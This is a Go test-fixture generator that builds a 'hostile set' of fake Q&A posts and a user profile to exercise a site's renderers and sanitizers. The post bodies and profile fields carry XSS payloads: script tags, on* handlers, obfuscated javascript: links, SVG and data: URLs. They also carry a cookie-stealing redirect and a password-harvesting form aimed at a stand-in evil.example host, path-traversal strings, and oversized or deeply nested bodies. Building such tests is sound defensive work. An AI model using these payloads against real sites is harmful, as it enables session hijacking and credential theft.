package teamgen

import (
	"strconv"
	"strings"

	"github.com/stackshelf/stackshelf/snapshot"
)

// Ids of the hostile set's questions (present only with Options.Hostile).
// Each question carries one kind of attack or pathology in its body (and,
// for some, its title or tags), so tests can check one thing at a time.
const (
	HostileScript       int64 = 101 + iota // <script> in body, answer and comment
	HostileEventHandler                    // <img src=x onerror=alert(1)> and other on* attributes
	HostileJSLink                          // javascript: links, HTML and Markdown, obfuscated variants
	HostileIframe                          // <iframe>, <object>, <embed>
	HostileStyle                           // <style>, style attributes, <link rel=stylesheet>
	HostileForm                            // <form> with inputs
	HostileDataURL                         // data: URLs in links and images
	HostileSVG                             // inline SVG and MathML with script
	HostilePathTitle                       // title "../../etc/passwd <script>…"
	HostileTagNames                        // tags "../x", "a/b", "<b>", "con"
	HostileHugeBody                        // body over 1 MB
	HostileManyAnswers                     // 150 answers
	HostileLongCode                        // a 5,000-line code block
	HostileLongLine                        // lines of 100,000 characters without a newline
	HostileDeepNesting                     // lists, quotes and brackets nested hundreds deep
)

// HostileUserID is the hostile user: a display name and about-me made of
// markup. It owns some hostile questions.
const HostileUserID int64 = 66

// HostileTags are the tag names of [HostileTagNames].
var HostileTags = []string{"../x", "a/b", "<b>", "con"}

// HostileItem describes one question of the hostile set.
type HostileItem struct {
	ID   int64
	Name string
}

// HostileItems lists the hostile set, by id.
func HostileItems() []HostileItem {
	out := make([]HostileItem, len(hostileQuestions))
	for i, h := range hostileQuestions {
		out[i] = HostileItem{ID: h.ID, Name: h.name}
	}
	return out
}

type hostileDef struct {
	ID      int64
	name    string
	title   string
	tags    []string
	mine    bool // owned by the hostile user
	answers int
	body    func() string
}

const hostileAnswerBase = 1000 // answer j of hostile question k has id 1000 + 200k + j

var hostileQuestions = []hostileDef{
	{HostileScript, "script", `Widget embed with <script>alert(1)</script> breaks the page`, []string{"javascript", "html"}, true, 1, func() string {
		return "Trying to embed a widget:\n\n<script>alert(1)</script>\n\nAnd inline: <script type=\"text/javascript\">document.location='https://evil.example/?c='+document.cookie</script> done.\n\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n\n<scr<script>ipt>alert('split')</script>"
	}},
	{HostileEventHandler, "event-handler", `Image with onerror handler`, []string{"html"}, true, 0, func() string {
		return "<img src=x onerror=alert(1)>\n\n<p onmouseover=\"alert(2)\">hover me</p>\n\n<a href=\"#\" onclick=\"alert(3)\">click</a> and <body onload=alert(4)>\n\n<details open ontoggle=alert(5)><summary>x</summary></details>"
	}},
	{HostileJSLink, "javascript-link", `Links that run javascript:`, []string{"javascript"}, false, 0, func() string {
		return "<a href=\"javascript:alert(1)\">click me</a>\n\n[markdown link](javascript:alert(2))\n\n[mixed case](JaVaScRiPt:alert(3))\n\n<a href=\"&#106;avascript:alert(4)\">entity encoded</a>\n\n<a href=\"java\tscript:alert(5)\">tab</a>\n\n[ref link][evil]\n\n[evil]: javascript:alert(6)\n\n<javascript:alert(7)>"
	}},
	{HostileIframe, "iframe", `Embedding a dashboard in an <iframe>`, []string{"html"}, false, 0, func() string {
		return "<iframe src=\"https://evil.example/\" width=\"100%\" height=\"600\"></iframe>\n\n<object data=\"https://evil.example/x.swf\"></object>\n\n<embed src=\"https://evil.example/x.swf\">\n\n<frameset><frame src=\"https://evil.example/\"></frameset>"
	}},
	{HostileStyle, "style", `Custom <style> for our status page`, []string{"css"}, false, 0, func() string {
		return "<style>body{display:none} *{background:url(https://evil.example/track.png)}</style>\n\n<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999\">overlay</div>\n\n<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n\n<p style=\"background-image:url(javascript:alert(1))\">styled</p>"
	}},
	{HostileForm, "form", `Login form in a post`, []string{"html"}, false, 0, func() string {
		return "Please re-enter your password:\n\n<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button formaction=\"javascript:alert(1)\">Log in</button></form>\n\n<input autofocus onfocus=alert(2)>\n\n<textarea><script>alert(3)</script></textarea>"
	}},
	{HostileDataURL, "data-url", `Images from data: URLs`, []string{"html"}, false, 0, func() string {
		return "![img](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)\n\n[open me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n<a href=\"data:text/html,<script>alert(2)</script>\">html link</a>\n\n<img src=\"data:image/png;base64,iVBORw0KGgo=\">"
	}},
	{HostileSVG, "svg", `Inline SVG diagram`, []string{"html"}, false, 0, func() string {
		return "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script><circle r=\"40\"/><a xlink:href=\"javascript:alert(3)\"><text>x</text></a></svg>\n\n<math><mtext><script>alert(4)</script></mtext></math>\n\n<svg><foreignObject><iframe src=\"javascript:alert(5)\"></iframe></foreignObject></svg>"
	}},
	{HostilePathTitle, "path-title", `../../etc/passwd <script>alert("title")</script>`, []string{"security"}, true, 0, func() string {
		return "The title is the attack here: it must not become a file name or markup.\n\nAlso: `../../../../etc/passwd` and `..\\..\\windows\\win.ini`."
	}},
	{HostileTagNames, "tag-names", `Tags that look like paths: ../x, a/b, <b>, con`, HostileTags, false, 0, func() string {
		return "This question's tags are hostile: [tag:../x], [tag:a/b], [tag:<b>] and [tag:con]."
	}},
	{HostileHugeBody, "huge-body", `A 1 MB question body`, []string{"performance"}, false, 0, hugeBody},
	{HostileManyAnswers, "many-answers", `Question with 150 answers`, []string{"python"}, false, 150, func() string {
		return "Everyone has an opinion on this one. What's your favourite way to {action}?"
	}},
	{HostileLongCode, "long-code", `5,000-line stack dump`, []string{"java"}, false, 0, func() string {
		var b strings.Builder
		b.WriteString("Full dump:\n\n```java\n")
		for i := range 5000 {
			b.WriteString("    at com.acme.ledger.Frame" + strconv.Itoa(i) + ".call(Frame" + strconv.Itoa(i) + ".java:" + strconv.Itoa(i%997+1) + ")\n")
		}
		b.WriteString("```")
		return b.String()
	}},
	{HostileLongLine, "long-line", `Minified bundle in a question`, []string{"javascript"}, false, 0, func() string {
		var code, prose strings.Builder
		for code.Len() < 100_000 {
			code.WriteString("var a" + strconv.Itoa(code.Len()) + "=function(b){return b&&b.c?b.c(1):0};")
		}
		for prose.Len() < 100_000 {
			prose.WriteString("word ")
		}
		return "```js\n" + code.String() + "\n```\n\n" + prose.String() + "\n\n" + strings.Repeat("x", 100_000)
	}},
	{HostileDeepNesting, "deep-nesting", `Deeply nested lists and quotes`, []string{"yaml"}, false, 0, func() string {
		var b strings.Builder
		for i := range 300 {
			b.WriteString(strings.Repeat("  ", i) + "- level " + strconv.Itoa(i) + "\n")
		}
		b.WriteString("\n" + strings.Repeat(">", 500) + " deep quote\n\n")
		b.WriteString(strings.Repeat("[", 2000) + "brackets" + strings.Repeat("]", 2000) + "\n\n")
		b.WriteString(strings.Repeat("*", 1000) + "emphasis" + strings.Repeat("*", 1000) + "\n\n")
		b.WriteString(strings.Repeat("<div>", 1000) + "divs" + strings.Repeat("</div>", 1000))
		return b.String()
	}},
}

func hugeBody() string {
	var b strings.Builder
	for i := 0; b.Len() < 1<<20+1000; i++ {
		b.WriteString("## Section " + strconv.Itoa(i) + "\n\nThis body is over a megabyte so that renderers, indexers and clients meet a large post. ")
		b.WriteString(strings.Repeat("The quick brown fox jumps over the lazy dog. ", 40))
		b.WriteString("\n\n```go\nfunc section" + strconv.Itoa(i) + "() int {\n\treturn " + strconv.Itoa(i) + "\n}\n```\n\n")
	}
	return b.String()
}

func hostileByID(id int64) (hostileDef, bool) {
	k := id - HostileScript
	if k < 0 || k >= int64(len(hostileQuestions)) {
		return hostileDef{}, false
	}
	return hostileQuestions[k], true
}

func hostileAnswerQuestion(t *Team, aid int64) (int64, bool) {
	if !t.opts.Hostile || aid < hostileAnswerBase {
		return 0, false
	}
	k, j := (aid-hostileAnswerBase)/200, (aid-hostileAnswerBase)%200
	if k >= int64(len(hostileQuestions)) || j >= int64(hostileQuestions[k].answers) {
		return 0, false
	}
	return hostileQuestions[k].ID, true
}

func (t *Team) hostileDate(id int64) int64 { return epochStart + span/2 + (id-100)*3600 }

func (t *Team) hostileUser() snapshot.User {
	u := snapshot.User{
		UserID: HostileUserID, DisplayName: `"><script>alert('user')</script> O'Brien & <b>Co</b>`, UserType: userRegistered,
		Reputation: 101, CreationDate: epochStart, Location: `<img src=x onerror=alert("loc")>`,
		AboutMe: `<script>alert('about')</script> [x](javascript:alert(1))`,
	}
	u.Link = t.opts.SiteURL + "/users/66/" + slugify(u.DisplayName, "user")
	for _, h := range hostileQuestions {
		if h.mine {
			u.QuestionCount++
		}
	}
	return u
}

func (t *Team) hostileQuestion(h hostileDef) snapshot.Question {
	created := t.hostileDate(h.ID)
	owner := t.shallow(0)
	if h.mine {
		owner = shallowOf(t.hostileUser())
	}
	w := t.newWriter(newRNG(t.opts.Seed, h.ID, streamBody), h.ID, []int{0})
	q := snapshot.Question{
		QuestionID: h.ID, Title: h.title, Tags: append([]string(nil), h.tags...), Owner: owner,
		ViewCount: 666, AnswerCount: h.answers, CreationDate: created, LastActivityDate: created,
		Link: t.QuestionLink(h.ID, h.title), BodyMarkdown: w.fill(h.body()),
		Answers: make([]snapshot.Answer, 0, h.answers), Comments: []snapshot.Comment{},
	}
	if h.ID == HostileScript {
		q.Comments = append(q.Comments, snapshot.Comment{CommentID: h.ID * maxComments, PostID: h.ID, Owner: owner,
			CreationDate: created + 60, BodyMarkdown: `<script>alert('comment')</script> <img src=x onerror=alert(1)>`})
	}
	k := h.ID - HostileScript
	for j := range h.answers {
		aid := hostileAnswerBase + k*200 + int64(j)
		date := created + 600 + int64(j)*60
		body := "Answer number " + strconv.Itoa(j+1) + ": " + w.sentences(1)
		if h.ID == HostileScript {
			body = "Use this: <script>alert('answer')</script>\n\n<img src=x onerror=alert('answer')>"
		}
		q.Answers = append(q.Answers, snapshot.Answer{AnswerID: aid, QuestionID: h.ID, Owner: t.shallow(j % max(len(t.users), 1)),
			Score: j % 7, CreationDate: date, LastActivityDate: date, Link: t.AnswerLink(h.ID, h.title, aid),
			BodyMarkdown: body, Comments: []snapshot.Comment{}})
		q.LastActivityDate = date
		q.IsAnswered = q.IsAnswered || j%7 > 0
	}
	return q
}
